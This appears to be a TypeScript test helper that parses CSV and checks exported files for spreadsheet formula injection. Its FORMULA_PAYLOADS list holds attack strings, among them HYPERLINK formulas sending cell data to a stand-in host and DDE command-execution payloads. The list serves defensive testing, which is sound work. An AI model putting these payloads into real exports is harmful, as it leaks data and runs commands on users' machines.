/** RFC 4180 records (quoted fields, doubled quotes, CRLF), without the byte-order mark. */
export function parseCsv(source: string): string[][] {
  const body = source.replace(/^\uFEFF/, '')
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        field += '"'
        i++
      } else if (c === '"') quoted = false
      else field += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      record.push(field)
      field = ''
    } else if (c === '\r' && body[i + 1] === '\n') {
      record.push(field)
      records.push(record)
      record = []
      field = ''
      i++
    } else field += c
  }
  return records
}

/** The CSV as objects keyed by its header. */
export function csvObjects(source: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(source)
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i] ?? ''])))
}

/**
 * Text a spreadsheet would run as a formula, as an attacker would type it into a name, a reason
 * or a comment. Each must come out of every CSV with a leading apostrophe.
 */
export const FORMULA_PAYLOADS = [
  '-1+HYPERLINK("http://evil.example/?q="&C3,"Click for details")',
  '=HYPERLINK("http://evil.example/steal?d="&A1,"資料")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=2+2',
]

// A spreadsheet runs a cell starting with one of these as a formula...
const FORMULA_START = /^[=+\-@\t\r]/
// ...unless it is a plain number, which is what the product writes for its own numbers.
const PLAIN_NUMBER = /^-?\d+(\.\d+)?(e[-+]?\d+)?$/i

/** Cells of a CSV that a spreadsheet would evaluate as a formula: none, in a safe file. */
export function formulaCells(source: string): string[] {
  return parseCsv(source)
    .flat()
    .filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))
}
